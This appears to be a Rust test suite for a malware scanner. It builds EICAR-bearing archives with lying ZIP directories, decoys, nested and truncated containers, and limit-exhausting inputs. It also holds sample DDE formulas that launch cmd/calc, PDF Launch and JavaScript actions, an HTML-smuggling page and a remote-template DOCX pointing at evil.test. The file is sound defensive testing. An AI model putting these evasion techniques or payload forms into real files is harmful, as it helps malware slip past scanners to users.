//! Carriers built here, so that every case says exactly which bytes are lies: archives whose directories disagree, nested
//! and truncated containers, limits, encryption flags, and documents with active content. AV-05, AV-10.

#![allow(clippy::unwrap_used)]

use scan::{Engines, FindingKind, Limits, Report, Unscannable, Verdict, scan_bytes};
use std::io::Write;

fn eicar() -> Vec<u8> {
    br"*H+H$!ELIF-TSET-SURIVITNA-DRADNATS-RACIE$}7)CC7)^P(45XZP\4[PA@%P!O5X".iter().rev().copied().collect()
}

fn scan(bytes: &[u8]) -> Report {
    scan_bytes(&Engines::built_in(), &Limits::default(), "sample", bytes)
}

fn scan_with(limits: Limits, bytes: &[u8]) -> Report {
    scan_bytes(&Engines::built_in(), &limits, "sample", bytes)
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn deflate(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

/// One member of an archive, and the ways in which its headers may lie.
struct Member<'a> {
    name: &'a str,
    body: &'a [u8],
    is_deflated: bool,
    flags: u16,
    are_local_sizes_zero: bool,
    is_listed: bool,
}

impl<'a> Member<'a> {
    fn new(name: &'a str, body: &'a [u8]) -> Self {
        Self { name, body, is_deflated: true, flags: 0, are_local_sizes_zero: false, is_listed: true }
    }
}

fn zip(members: &[Member<'_>]) -> Vec<u8> {
    let mut archive = Vec::new();
    let mut directory = Vec::new();
    let mut listed = 0u16;
    for member in members {
        let packed = if member.is_deflated { deflate(member.body) } else { member.body.to_vec() };
        let offset = archive.len() as u32;
        let sizes = [packed.len() as u32, member.body.len() as u32];
        let local_sizes = if member.are_local_sizes_zero { [0, 0] } else { sizes };
        let method: u16 = if member.is_deflated { 8 } else { 0 };
        let common = |sizes: [u32; 2]| {
            let mut fields = Vec::new();
            for value in [20, member.flags, method, 0, 0] {
                fields.extend_from_slice(&u16::to_le_bytes(value));
            }
            fields.extend_from_slice(&[0; 4]);
            fields.extend(sizes.iter().flat_map(|size| size.to_le_bytes()));
            fields.extend_from_slice(&(member.name.len() as u16).to_le_bytes());
            fields.extend_from_slice(&[0, 0]);
            fields
        };
        archive.extend_from_slice(b"PK\x03\x04");
        archive.extend(common(local_sizes));
        archive.extend_from_slice(member.name.as_bytes());
        archive.extend_from_slice(&packed);
        if member.is_listed {
            listed += 1;
            directory.extend_from_slice(b"PK\x01\x02\x14\0");
            directory.extend(common(sizes));
            directory.extend_from_slice(&[0; 10]);
            directory.extend_from_slice(&offset.to_le_bytes());
            directory.extend_from_slice(member.name.as_bytes());
        }
    }
    let start = archive.len() as u32;
    let size = directory.len() as u32;
    archive.extend(directory);
    archive.extend_from_slice(b"PK\x05\x06\0\0\0\0");
    archive.extend_from_slice(&listed.to_le_bytes());
    archive.extend_from_slice(&listed.to_le_bytes());
    archive.extend_from_slice(&size.to_le_bytes());
    archive.extend_from_slice(&start.to_le_bytes());
    archive.extend_from_slice(&[0, 0]);
    archive
}

fn tar(name: &str, body: &[u8]) -> Vec<u8> {
    let mut header = vec![0u8; 512];
    header[..name.len()].copy_from_slice(name.as_bytes());
    header[124..136].copy_from_slice(format!("{:011o}\0", body.len()).as_bytes());
    header[148..156].copy_from_slice(b"        ");
    header[156] = b'0';
    let sum: u32 = header.iter().map(|byte| u32::from(*byte)).sum();
    header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    header.extend_from_slice(body);
    header.resize(header.len().next_multiple_of(512) + 1024, 0);
    header
}

fn assert_hit(bytes: &[u8], member: &str) {
    let report = scan(bytes);
    assert_eq!(report.verdict, Verdict::Malicious, "{report:?}");
    assert_eq!((report.engine.as_str(), report.member.as_str()), ("eicar", member));
}

#[test]
fn honest_archives() {
    assert_hit(&eicar(), "");
    assert_hit(&zip(&[Member::new("a.txt", b"hello"), Member::new("b.com", &eicar())]), "b.com");
    assert_hit(&gzip(&tar("dir/b.com", &eicar())), "content!dir/b.com");
    assert_hit(&zip(&[Member::new("inner.zip", &zip(&[Member::new("b.com", &eicar())]))]), "inner.zip!b.com");
    assert_eq!(scan(&zip(&[Member::new("a.txt", b"hello")])).verdict, Verdict::Clean);
    assert_eq!(scan(&zip(&[])).verdict, Verdict::Clean);
}

#[test]
fn zip_directories_that_lie_hide_nothing() {
    let bad = eicar();
    let hidden = Member { is_listed: false, ..Member::new("hidden.com", &bad) };
    assert_hit(&zip(&[Member::new("a.txt", b"hello"), hidden]), "hidden.com");
    let zeros = Member { are_local_sizes_zero: true, ..Member::new("zeros.com", &bad) };
    assert_hit(&zip(&[zeros]), "zeros.com");
    let stored = Member { is_deflated: false, ..Member::new("stored.com", &bad) };
    let mut truncated = zip(&[stored]);
    truncated.truncate(30 + "stored.com".len() + bad.len());
    assert_hit(&truncated, "stored.com");
    let first = zip(&[Member::new("first.com", &bad)]);
    let second = zip(&[Member::new("second.txt", b"hello")]);
    assert_hit(&[first.clone(), second.clone()].concat(), "first.com");
    assert_hit(&[second, first].concat(), "first.com");
}

#[test]
fn two_methods_for_one_member_are_both_tried() {
    let bad = eicar();
    let mut archive = zip(&[Member { is_deflated: false, ..Member::new("b.com", &bad) }]);
    let directory = archive.windows(4).position(|window| window == b"PK\x01\x02").unwrap();
    archive[directory + 10] = 8;
    assert_hit(&archive, "b.com");
}

#[test]
fn damage_and_encryption_are_never_clean() {
    let whole = zip(&[Member::new("a.txt", &b"hello ".repeat(1000))]);
    assert_eq!(scan(&whole[..40]).verdict, Verdict::Unscannable(Unscannable::Corrupt));
    let locked = zip(&[Member { flags: 1, ..Member::new("a.txt", b"hello") }]);
    assert_eq!(scan(&locked).verdict, Verdict::Unscannable(Unscannable::Encrypted));
    let packed = gzip(&b"hello ".repeat(1000));
    assert_eq!(scan(&packed[..packed.len() - 12]).verdict, Verdict::Unscannable(Unscannable::Corrupt));
    let beside = zip(&[Member { flags: 1, ..Member::new("a.txt", b"hello") }, Member::new("b.com", &eicar())]);
    assert_eq!(scan(&beside).verdict, Verdict::Malicious, "a hit beside something unread is a hit");
}

#[test]
fn av_10_each_limit_has_its_verdict() {
    let many: Vec<String> = (0..30).map(|index| format!("{index}.txt")).collect();
    let many: Vec<Member<'_>> = many.iter().map(|name| Member::new(name, b"x")).collect();
    let entries = Limits { entries: 20, ..Limits::default() };
    assert_eq!(scan_with(entries, &zip(&many)).verdict, Verdict::Unscannable(Unscannable::EntryLimit));

    let mut nested = eicar();
    for _ in 0..5 {
        nested = gzip(&nested);
    }
    let depth = Limits { depth: 4, ..Limits::default() };
    assert_eq!(scan_with(depth, &nested).verdict, Verdict::Unscannable(Unscannable::DepthLimit));
    assert_eq!(scan(&nested).verdict, Verdict::Malicious);

    let zeros = vec![0u8; 4 << 20];
    let size = Limits { entry_bytes: 1 << 20, ..Limits::default() };
    assert_eq!(scan_with(size, &gzip(&zeros)).verdict, Verdict::Unscannable(Unscannable::SizeLimit));
    let ratio = Limits { ratio: 2, ..Limits::default() };
    assert_eq!(scan_with(ratio, &gzip(&zeros)).verdict, Verdict::Unscannable(Unscannable::RatioLimit));
    let time = Limits { time_millis: 0, ..Limits::default() };
    assert_eq!(scan_with(time, b"hello").verdict, Verdict::Unscannable(Unscannable::TimeLimit));
    let input = Limits { input_bytes: 4, ..Limits::default() };
    assert_eq!(scan_with(input, b"hello").verdict, Verdict::Unscannable(Unscannable::TooLarge));
}

#[test]
fn overlapping_members_are_refused() {
    let mut archive = zip(&[Member::new("a.txt", b"hello"), Member::new("b.txt", b"world")]);
    let entries: Vec<usize> = (0..archive.len() - 4).filter(|at| &archive[*at..*at + 4] == b"PK\x01\x02").collect();
    archive[entries[1] + 42..entries[1] + 46].copy_from_slice(&0u32.to_le_bytes());
    assert_eq!(scan(&archive).verdict, Verdict::Unscannable(Unscannable::Overlap));
}

#[test]
fn carriers_that_are_no_containers() {
    use base64::Engine;
    let archive = zip(&[Member::new("b.com", &eicar())]);
    let text = base64::engine::general_purpose::STANDARD.encode(&archive);
    assert_hit(text.as_bytes(), "base64!b.com");
    let page = format!("<html><script>var b=new Blob([atob('{text}')]);</script></html>");
    let report = scan(page.as_bytes());
    assert_eq!(report.verdict, Verdict::Malicious);
    assert!(report.findings.iter().any(|finding| finding.kind == FindingKind::HtmlSmuggling));
    let wide: Vec<u8> = String::from_utf8(eicar()).unwrap().encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert_hit(&[b"\xff\xfe".to_vec(), wide].concat(), "text");
    let program = [b"\x7fELF".to_vec(), vec![0; 2000]].concat();
    assert_hit(&[program.clone(), archive].concat(), "offset-2004!b.com");
    assert_eq!(scan(&[program, b"PK\x03\x04 is a constant in unzip".to_vec()].concat()).verdict, Verdict::Clean);
}

/// Lock files carry ten thousands of digests in base64, and prose says "begin": neither may use up a limit.
#[test]
fn digests_and_prose_are_no_carriers() {
    use base64::Engine;
    let digest = |index: u64| {
        let mut state = index.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
        let bytes: Vec<u8> = (0..64)
            .map(|_| {
                state ^= state << 13;
                state ^= state >> 7;
                state ^= state << 17;
                state as u8
            })
            .collect();
        base64::engine::general_purpose::STANDARD.encode(bytes)
    };
    let lock: String = (1..12_000).map(|index| format!("begin \"sha512-{}\"\n", digest(index))).collect();
    let report = scan(lock.as_bytes());
    assert_eq!((report.verdict, report.findings.len()), (Verdict::Clean, 0));
}

#[test]
fn dde_in_a_spreadsheet_text_needs_the_whole_formula() {
    assert!(kinds(&scan(b"a;b\n=cmd|'/c calc'!A0;1\n")).contains(&FindingKind::Dde));
    assert!(kinds(&scan(b"@SUM(1+1)*cmd|' /C calc'!A0\n")).contains(&FindingKind::Dde));
    assert_eq!(scan(b":map = (cmd|bar) and \"cmd| x\"\n").verdict, Verdict::Clean);
}

/// Decoys in front of an appended archive do not hide it.
#[test]
fn decoys_hide_nothing() {
    let program = [b"\x7fELF".to_vec(), vec![0; 100]].concat();
    let decoys = b"PK\x03\x04 decoy ".repeat(500);
    let archive = zip(&[Member::new("b.com", &eicar())]);
    assert_eq!(scan(&[program.clone(), decoys, archive].concat()).verdict, Verdict::Malicious);
    let many = b"Rar!\x1a\x07 decoy ".repeat(500);
    assert_eq!(scan(&[program, many].concat()).verdict, Verdict::Unscannable(Unscannable::EntryLimit));
}

#[test]
fn mail_parts_are_decoded() {
    use base64::Engine;
    let body = base64::engine::general_purpose::STANDARD.encode(eicar());
    let message = format!(
        "From: a@example.test\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\
         Content-Type: text/plain\r\n\r\nhello\r\n--b\r\nContent-Type: application/octet-stream; name=e.com\r\n\
         Content-Disposition: attachment; filename=e.com\r\nContent-Transfer-Encoding: base64\r\n\r\n{body}\r\n--b--\r\n"
    );
    assert_hit(message.as_bytes(), "e.com");
    let nested = format!(
        "From: b@example.test\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\n\
         Content-Type: message/rfc822\r\n\r\n{message}\r\n--o--\r\n"
    );
    assert_eq!(scan(nested.as_bytes()).verdict, Verdict::Malicious);
    let behind = format!(
        "From: a@example.test\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\
         Content-Type: text/plain\r\n\r\nhello\r\n--b--\r\nContent-Transfer-Encoding: base64\r\n\r\n{body}\r\n"
    );
    assert_hit(behind.as_bytes(), "rest!base64");
}

#[test]
fn uuencoded_files_are_decoded() {
    let line: String = eicar()
        .chunks(45)
        .map(|chunk| {
            let letters = chunk.chunks(3).flat_map(|group| {
                let bits = (0..3).fold(0u32, |bits, index| bits << 8 | u32::from(*group.get(index).unwrap_or(&0)));
                [18, 12, 6, 0].map(|shift| char::from(b' ' + (bits >> shift & 0x3f) as u8))
            });
            format!("{}{}\r\n", char::from(b' ' + chunk.len() as u8), letters.collect::<String>())
        })
        .collect();
    assert_hit(format!("hello\r\nbegin 644 e.com\r\n{line}`\r\nend\r\n").as_bytes(), "e.com");
}

fn kinds(report: &Report) -> Vec<FindingKind> {
    report.findings.iter().map(|finding| finding.kind).collect()
}

#[test]
fn pdf_actions_are_found_behind_escaped_names() {
    let pdf =
        |action: &str| format!("%PDF-1.4\n1 0 obj\n<< /Type /Catalog /OpenAction << {action} >> >>\nendobj\ntrailer\n<<>>\n");
    let script = scan(pdf("/S /J#61vaScript /JS (app.alert(1))").as_bytes());
    assert_eq!(script.verdict, Verdict::Suspicious);
    assert!(kinds(&script).contains(&FindingKind::PdfJavaScript) && kinds(&script).contains(&FindingKind::PdfOpenAction));
    let launch = scan(pdf("/S /Launch /F (cmd.exe)").as_bytes());
    assert!(kinds(&launch).contains(&FindingKind::PdfLaunch));
    let plain = scan(pdf("/S /GoTo /D [0 /Fit]").as_bytes());
    assert_eq!((plain.verdict, plain.true_type.as_str()), (Verdict::Clean, "pdf"));
}

fn docx(part: &str, body: &str) -> Vec<u8> {
    zip(&[
        Member::new("[Content_Types].xml", b"<Types/>"),
        Member::new("word/document.xml", b"<w:document/>"),
        Member::new(part, body.as_bytes()),
    ])
}

#[test]
fn office_documents_that_fetch_or_start_something_are_suspicious() {
    let template = docx(
        "word/_rels/settings.xml.rels",
        r#"<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.test/a.dotm" TargetMode="External"/></Relationships>"#,
    );
    assert!(kinds(&scan(&template)).contains(&FindingKind::RemoteTemplate));
    let field = docx("word/footer1.xml", "<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\x</w:instrText>");
    assert!(kinds(&scan(&field)).contains(&FindingKind::Dde));
    let program = [b"MZ".to_vec(), vec![0; 58], 64u32.to_le_bytes().to_vec(), b"PE\0\0".to_vec(), vec![0; 64]].concat();
    let embedded = zip(&[Member::new("word/document.xml", b"<w:document/>"), Member::new("word/media/image1.png", &program)]);
    assert!(kinds(&scan(&embedded)).contains(&FindingKind::EmbeddedExecutable));
    let link = docx(
        "word/_rels/document.xml.rels",
        r#"<Relationship Id="r" Type="http://x/relationships/hyperlink" Target="https://fine.test/" TargetMode="External"/>"#,
    );
    let report = scan(&link);
    assert_eq!((report.verdict, report.true_type.as_str()), (Verdict::Clean, "docx"));
    let mut archive = zip(&[Member::new("setup.exe", &program)]);
    assert_eq!(scan(&archive).verdict, Verdict::Clean, "an archive may carry programs");
    archive.truncate(20);
    assert_ne!(scan(&archive).verdict, Verdict::Clean);
}

#[test]
fn rtf_objects_are_read_through_obfuscation() {
    let hex: String = eicar().iter().map(|byte| format!("{byte:02x}{{\\*\\junk 9}}\r\n")).collect();
    // The digits 9 inside the group are kept by the decoder, so the group is empty here.
    let hex = hex.replace("{\\*\\junk 9}", "{\\*\\junk}");
    let native = format!("01050000020000000400000041424300{}{}{:08x}", "00000000", "00000000", (68u32).swap_bytes());
    let document = format!("{{\\rtf1{{\\object\\objemb{{\\*\\objdata {native}{hex}}}}}}}");
    let report = scan(document.as_bytes());
    assert_eq!((report.verdict, report.true_type.as_str()), (Verdict::Malicious, "rtf"), "{report:?}");
}

#[test]
fn equal_bytes_give_equal_reports() {
    let archive = zip(&[Member::new("a.txt", b"hello"), Member::new("b.com", &eicar())]);
    assert_eq!(scan(&archive), scan(&archive));
}

/// Every prefix and many single-byte damages of a mixed archive: any outcome is right but a panic or a hang.
#[test]
fn damaged_archives_are_total() {
    let document = docx("word/footer1.xml", "<w:instrText>x</w:instrText>");
    let archive = zip(&[Member::new("a.tar.gz", &gzip(&tar("x", b"hello"))), Member::new("b.docx", &document)]);
    for end in 0..archive.len() {
        assert_ne!(scan(&archive[..end]).verdict, Verdict::Unscannable(Unscannable::Crashed));
    }
    for at in 0..archive.len() {
        let mut damaged = archive.clone();
        damaged[at] ^= 0xff;
        assert_ne!(scan(&damaged).verdict, Verdict::Unscannable(Unscannable::Crashed));
    }
}

/// Inputs that once cost a worker its stack or its time, each built to the size at which it did.
#[test]
fn small_files_that_ask_for_endless_work_end_soon() {
    let skippable = b"\x50\x2a\x4d\x18\0\0\0\0".repeat(100_000);
    assert_eq!(scan(&skippable).verdict, Verdict::Clean, "skippable frames one inside the other's tail");

    let started = std::time::Instant::now();
    let limits = Limits { time_millis: 200, ..Limits::default() };
    let begins = " begin 6 y\n".repeat(200_000);
    assert_eq!(
        scan_with(limits, begins.as_bytes()).verdict,
        Verdict::Unscannable(Unscannable::TimeLimit),
        "empty uuencoded files"
    );
    assert_eq!(scan_with(limits, &iso_of_overlapping_directories()).verdict, Verdict::Unscannable(Unscannable::TimeLimit));
    assert!(started.elapsed() < std::time::Duration::from_secs(30), "{:?}", started.elapsed());
}

/// One listing of 20,000 directories, each of which is the same listing at another length.
fn iso_of_overlapping_directories() -> Vec<u8> {
    const SECTOR_BYTES: usize = 2048;
    let record = |block: u32, size: u32| {
        let mut record = vec![0u8; 34];
        record[0] = 34;
        record[2..6].copy_from_slice(&block.to_le_bytes());
        record[10..14].copy_from_slice(&size.to_le_bytes());
        record[25] = 2;
        record[32] = 1;
        record[33] = b'A';
        record
    };
    let listing_bytes = 20_000 * 34u32;
    let mut image = vec![0u8; 18 * SECTOR_BYTES];
    image[16 * SECTOR_BYTES..16 * SECTOR_BYTES + 6].copy_from_slice(b"\x01CD001");
    image[16 * SECTOR_BYTES + 156..][..34].copy_from_slice(&record(18, listing_bytes));
    image.extend((0..20_000).flat_map(|index| record(18, listing_bytes - 34 * (index % 19_000))));
    image
}
